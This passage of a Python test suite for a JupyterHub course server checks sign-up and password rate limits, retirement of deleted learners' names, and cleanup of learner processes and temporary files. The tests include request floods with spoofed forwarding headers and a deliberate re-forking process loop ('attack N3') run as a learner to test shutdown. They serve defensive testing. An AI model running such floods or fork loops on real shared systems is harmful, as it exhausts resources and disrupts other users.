    assert checked <= BLOCK_AFTER + 1, f"{checked} of 30 wrong current passwords were checked: {answers}"
    print(f"\nchange-password flood: {checked} of 30 checked, the login page at most {1000 * max(waits):.0f} ms")


def test_a_flood_of_sign_ups_is_refused_per_address_and_the_room_still_signs_up(room: Room) -> None:
    """From 127.0.0.3 (another machine, to the hub), sign-ups under new names, with made-up X-Forwarded-For and
    X-Real-Ip headers: each the hub accepts costs a bcrypt hash and a name in the instructor's list. Past the address's
    budget (SIGNUPS_PER_ADDRESS a minute, HUB_SIGNUPS_PER_ADDRESS) they are refused (429) before any hash, saying how
    long to wait; meanwhile the login page answers, and a learner at 127.0.0.1 still signs up. Issue 41.8: names of
    system groups or users are refused, and the instructor's account is not in the learners' group."""
    hub = room.hub
    assert hub.extra_env["HUB_SIGNUPS_PER_ADDRESS"] == str(SIGNUPS_PER_ADDRESS)
    started = time.monotonic()
    with login_page_times(hub) as waits:
        answers = flood_as("root", f"http://127.0.0.1:{hub.port}", f"localhost:{hub.port}", "signup",
                           f"{hub.prefix}s", 30, source="127.0.0.3")
    flood_s, made = time.monotonic() - started, sum(1 for _, _, was_made in answers if was_made)
    assert all(status in (200, 429) for status, _, _ in answers) and answers[-1][0] == 429, answers
    assert made <= SIGNUPS_PER_ADDRESS * (1 + flood_s / 60) + 1, f"{made} accounts made for one address"
    # a sign-up comes back every 60 / SIGNUPS_PER_ADDRESS s: if one came back since the flood's last 429, the first of
    # these two takes it and the second is refused
    late = [hub.client("127.0.0.3").sign_up(f"{hub.prefix}late{n}", secrets.token_urlsafe(10)).text for n in (0, 1)]
    assert any(re.search(r"Too many sign-ups from your address: try again in \d+ s", text) for text in late), \
        late[-1][-600:]
    assert "sent to the admin" in hub.client("127.0.0.1").sign_up(f"{hub.prefix}gus", secrets.token_urlsafe(10)).text
    too_long = hub.client("127.0.0.1").sign_up(f"{hub.prefix}hal", "钩子" * 13)  # 78 bytes: bcrypt takes 72
    assert too_long.status_code == 200 and "longer than 72 bytes" in too_long.text, too_long.text[-600:]
    for name in ("sudo", "adm", hub.group):  # issue 41.8: system groups (and a system user), the learners' group
        assert "sent to the admin" not in hub.client("127.0.0.6").sign_up(name, secrets.token_urlsafe(10)).text, name
    assert hub.admin not in grp.getgrnam(hub.group).gr_mem, "the instructor's account is in the learners' group"
    print(f"\nsign-up flood from 127.0.0.3: {len(answers)} sign-ups in {flood_s:.1f} s, {made} accounts made; the "
          f"login page meanwhile: {1000 * max(waits):.0f} ms at most")


def test_a_deleted_learners_name_cannot_be_claimed_and_remove_learner_archives_and_retires_it(room: Room) -> None:
    """Issues 22.5 and 34.4, .6: fay signs up, is approved and logs in (the hub makes her system account); the
    instructor deletes her in the hub, which retires her name. A new sign-up as fay must not get her uid and home;
    ``make hub-remove-learner LEARNER=fay`` archives the home, removes the account and fay's files in /tmp, /var/tmp and
    /dev/shm, and the name stays refused."""
    import pwd

    hub, instructor = room.hub, room.instructor
    fay = Learner(f"{hub.prefix}fay", secrets.token_urlsafe(10))
    context, page = new_page(room.browser, room.outside)
    leftovers: list[Path] = []
    try:
        assert "sent to the admin" in sign_up(page, hub, fay)
        instructor.page.goto(f"{hub.url}/hub/authorize")
        instructor.page.click(f"#authorize-{fay.name}")
        instructor.page.wait_for_selector(f"#authorize-{fay.name}:has-text('Unauthorize')", timeout=60_000)
        response = hub.client("127.0.0.1").log_in(fay.name, fay.password)
        assert response.status_code == 302, f"fay's login: HTTP {response.status_code}"
        assert fay.name in hub.learner_uids(), "the hub did not make fay's system account"
        (Path(pwd.getpwnam(fay.name).pw_dir) / "notes.txt").write_text("fay's work")
        status = instructor.page.evaluate("""async (name) => (await fetch('/hub/api/users/' + name, {method: 'DELETE',
            headers: {'X-XSRFToken': window.jhdata.xsrf_token}})).status""", fay.name)
        assert status == 204, f"deleting fay in the hub: HTTP {status}"
        assert fay.name in (hub.state / "private" / "retired-names").read_text().split(), "fay's name was not retired"
        claimant = Learner(fay.name, secrets.token_urlsafe(10))
        text = sign_up(page, hub, claimant)
        assert "sent to the admin" not in text, "a new sign-up claimed the deleted learner's name (and uid, home)"
        env = {**os.environ, "HUB_STATE": str(hub.state), "HUB_LEARNER_GROUP": hub.group, "HUB_ADMIN": hub.admin}
        serve = [str(hub.checkout / ".venv/bin/python"), "-m", "tools.hub.serve"]  # as make does
        leftovers += plant_leftovers(fay)
        result = subprocess.run([*serve, "remove-learner", fay.name], env=env, capture_output=True, text=True,
                                timeout=120, cwd=hub.checkout)
        assert result.returncode == 0, result.stderr
        assert fay.name not in hub.learner_uids() and not (hub.homes / fay.name).exists()
        assert not [path for path in leftovers if path.exists()], "fay's files in the shared temporary folders are left"
        archives = list((hub.state / "private" / "archive").glob(f"{fay.name}-*.tar.gz"))
        assert archives and (archives[0].stat().st_mode & 0o077) == 0, "fay's home was not archived (privately)"
        text = sign_up(page, hub, claimant)
        assert "sent to the admin" not in text, "a retired name was given out again"
    finally:
        context.close()
        for path in leftovers:
            subprocess.run(["rm", "-rf", str(path)], check=False)
        if fay.name in hub.learner_uids():
            subprocess.run(["userdel", "--remove", fay.name], capture_output=True)


def plant_leftovers(learner: Learner) -> list[Path]:
    """What a learner can leave in the machine's shared temporary folders (from a process the hub did not start: their
    server has folders of its own): a file, a folder with a file, a file in /dev/shm and one in /run/lock."""
    tag = secrets.token_hex(4)
    paths = [Path(f"{place}/course-left-{tag}") for place in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock")]
    as_learner(learner.name, f"echo x > {paths[0]} && mkdir {paths[1]} && echo x > {paths[1]}/inside && "
               f"echo x > {paths[2]} && echo x > {paths[3]}")
    return paths


def test_ctrl_c_stops_the_hub_and_every_learner_server_and_kernel(at_work: Room) -> None:
    """Also issues 22.6 and 34.4: ann leaves a process that left her server's session (setsid) and holds a port, a
    re-forking loop (attack N3: before, it outlived the hub), and files in /tmp, /var/tmp and the machine's /dev/shm;
    Ctrl-C must end the process, free the port and remove her files (and no file of anybody else: root's file beside
    them stays)."""
    room = at_work
    hub, ann = room.hub, room.learners["ann"]
    port = free_port()
    server = process_of(hub, ann, "jupyterhub.singleuser")
    leftovers = plant_leftovers(ann)
    kept = Path(f"/tmp/course-kept-{secrets.token_hex(4)}")
    kept.write_text("root's")
    squatter = subprocess.Popen(  # as ann, from her server's environment, in a session of its own
        ["runuser", "-u", ann.name, "--", "setsid", server.cmdline()[0], "-m", "http.server", "--bind", "127.0.0.1",
         str(port)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    ann_uid = server.uids().real
    forker = subprocess.Popen(  # attack N3: a child every 3 ms, its parent gone (a pass over pids misses it)
        ["runuser", "-u", ann.name, "--", "setsid", server.cmdline()[0], "-c",
         "import os, time\nwhile True:\n    time.sleep(0.003)\n    os.fork() and os._exit(0)"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        wait_for(lambda: listening(port), 60, "ann's squatter did not start")
        before = hub.processes()
        kernels = [p for p in before if "ipykernel" in " ".join(p.cmdline())]  # type: ignore[attr-defined]
        servers = [p for p in before if "jupyterhub.singleuser" in " ".join(p.cmdline())]  # type: ignore[attr-defined]
        assert len(servers) >= 3 and len(kernels) >= 3, f"expected the learners' servers and kernels: {before}"
        left = hub.stop(timeout=90)
        assert not left, f"still running after Ctrl-C: {left}"
        assert "Cleaning up single-user servers" in hub.log()
        if "ann_shm_key" in room.notes:  # issue 41.4: ann's System V segment went with her server
            assert room.notes["ann_shm_key"] not in host_segments(), "ann's segment outlived the hub"
            assert room.notes["ann_ipc"] not in ipc_namespaces(), "ann's IPC namespace outlived her server"
        assert not listening(port), f"port {port} is still held by ann's process"
        ann_pids = [{p.pid for p in psutil.process_iter(["uids"]) if p.info["uids"].real == ann_uid}
                    for _ in range(2) if not time.sleep(1)]  # a forking loop's pids change faster than a list
        assert not ann_pids[1] - ann_pids[0], "a process of ann's outlived the hub (her re-forking loop)"
        assert not [path for path in leftovers if path.exists()], "ann's files in the shared temporary folders are left"
        assert kept.exists(), "a file that is not ann's was removed"
    finally:
        kept.unlink(missing_ok=True)
        for path in leftovers:
            subprocess.run(["rm", "-rf", str(path)], check=False)
        if squatter.poll() is None:
            squatter.kill()
        squatter.wait(timeout=30)
        for _ in range(20):  # the forking loop, where it outlived the hub: kill -1 signals all of ann's at once
            subprocess.run(["kill", "-KILL", "-1"], user=ann_uid, stderr=subprocess.DEVNULL, timeout=10, check=False)
        forker.wait(timeout=30)


def test_the_learner_envs_of_checkouts_that_are_gone_are_removed(tmp_path: Path) -> None:
    gone, kept, legacy, mine = (tmp_path / f"learner-env-test-{name}" for name in ("gone", "kept", "legacy", "mine"))
    for env in (gone, kept, legacy, mine):
        (env / "bin").mkdir(parents=True)
    gone.with_name(gone.name + ".checkout").write_text(str(tmp_path / "deleted-clone"), encoding="utf-8")
    kept.with_name(kept.name + ".checkout").write_text(str(tmp_path), encoding="utf-8")
    assert prune_learner_envs(tmp_path, keep=mine) == [gone, legacy]
    assert kept.is_dir() and mine.is_dir() and not gone.exists() and not legacy.exists()
    assert not gone.with_name(gone.name + ".checkout").exists()
